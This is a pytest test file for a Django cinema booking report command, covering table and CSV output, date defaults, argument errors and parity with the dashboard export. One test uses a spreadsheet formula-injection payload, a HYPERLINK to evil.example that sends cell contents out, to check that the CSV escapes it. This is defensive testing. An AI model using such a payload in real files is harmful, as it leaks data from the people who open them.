from __future__ import annotations

import csv
import io

import pytest
from django.core.management import CommandError, call_command
from django.urls import reverse

from bookings.tests.report_fixtures import EXPECTED_TIME_SLOT, EXPECTED_WEEKDAY, build_week, local
from theaters.tests.factories import ShowtimeFactory

# checked_in, attendance, no_shows of sessions still ahead.
NOBODY_CAME = ["0", "0.0000", "0"]


@pytest.fixture
def week(customer, other_customer, staff):
    return build_week(customer=customer, other_customer=other_customer, staff=staff)


def run(*args: str) -> str:
    out = io.StringIO()
    call_command("booking_report", *args, stdout=out)
    return out.getvalue()


def week_range(week) -> list[str]:
    return ["--from", str(week.monday), "--to", str(week.sunday)]


def test_it_prints_an_aligned_table_with_a_total_in_staff_wording(week):
    output = run("--group-by", "time_slot", *week_range(week))

    title, header, rule, *rows, total_rule, total = output.splitlines()
    assert title == f"Bookings by time slot, {week.monday} to {week.sunday}"
    assert header.split() == [
        "Key",
        "Label",
        "Showtimes",
        "Bookings",
        "Tickets",
        "Seats",
        "Revenue",
        "Occupancy",
    ]
    assert set(rule) == set(total_rule) == {"-", " "}
    assert [row.split()[0] for row in rows] == list(EXPECTED_TIME_SLOT)
    assert rows[3].split()[-6:] == ["1", "1", "6", "40", "75.00", "15.0%"]
    assert total.split() == ["total", "Total", "4", "4", "12", "100", "128.00", "12.0%"]
    # Right-aligned numbers: every line ends at the same column.
    assert len({len(line) for line in [header, *rows, total]}) == 1


def test_it_writes_csv_for_scripts(week):
    output = run("--group-by", "weekday", *week_range(week), "--format", "csv")

    lines = list(csv.reader(io.StringIO(output)))
    assert lines[0] == [
        "key",
        "label",
        "sessions",
        "bookings",
        "tickets",
        "revenue (EUR)",
        "occupancy",
        "occupancy_percent",
        "seats_offered",
        "checked_in",
        "attendance",
        "no_shows",
    ]
    assert [line[0] for line in lines[1:]] == list(EXPECTED_WEEKDAY)
    assert lines[3] == [
        "wednesday",
        "Wednesday",
        "2",
        "2",
        "7",
        "84.00",
        "0.1400",
        "14.0",
        "50",
        *NOBODY_CAME,
    ]


def test_it_defaults_to_the_last_30_days_and_the_next_30(week):
    output = run("--group-by", "weekday", "--format", "csv")

    # The week and the Monday after it (8 to 21 days ahead) are all in range:
    # the week's two Monday sessions plus the next Monday's (1 ticket, 8.00, 10 seats).
    assert "monday,Monday,3,3,6,52.00,0.1000,10.0,60,0,0.0000,0" in output.splitlines()


def test_an_empty_range_prints_zeroes(db):
    output = run("--group-by", "movie", "--from", "2020-01-01", "--to", "2020-01-31")

    assert output.splitlines()[-1].split() == ["total", "Total", "0", "0", "0", "0", "0.00", "0.0%"]


@pytest.mark.parametrize(
    ("args", "message"),
    [
        ([], "--group-by"),
        (["--group-by", "room"], "invalid choice"),
        (["--group-by", "weekday", "--format", "xml"], "invalid choice"),
        (["--group-by", "weekday", "--from", "2026-02-30"], "--from: Enter a valid date."),
        (["--group-by", "weekday", "--from", "2026-03-02", "--to", "2026-03-01"], "--to: The end date"),
    ],
)
def test_it_refuses_bad_arguments(db, args, message):
    with pytest.raises(CommandError, match=message):
        run(*args)


def test_its_csv_never_carries_a_live_formula_from_a_movie_title(week):
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
    ShowtimeFactory(movie__title=evil, starts_at=local(week.monday, 15))

    output = run("--group-by", "movie", *week_range(week), "--format", "csv")

    rows = {line[1]: line for line in csv.reader(io.StringIO(output))}
    assert evil not in rows
    assert rows["'" + evil][2:] == ["1", "0", "0", "0.00", "0.0000", "0.0", "40", *NOBODY_CAME]
    assert rows["Alpha"][2:] == ["2", "2", "5", "44.00", "0.1000", "10.0", "50", *NOBODY_CAME]


def test_its_csv_is_byte_for_byte_the_dashboard_export(client, staff, week):
    client.force_login(staff)
    query = {"group_by": "movie", "from": str(week.monday), "to": str(week.sunday)}

    export = client.get(reverse("insights:export"), query).content.decode("utf-8")

    assert run("--group-by", "movie", *week_range(week), "--format", "csv") == export
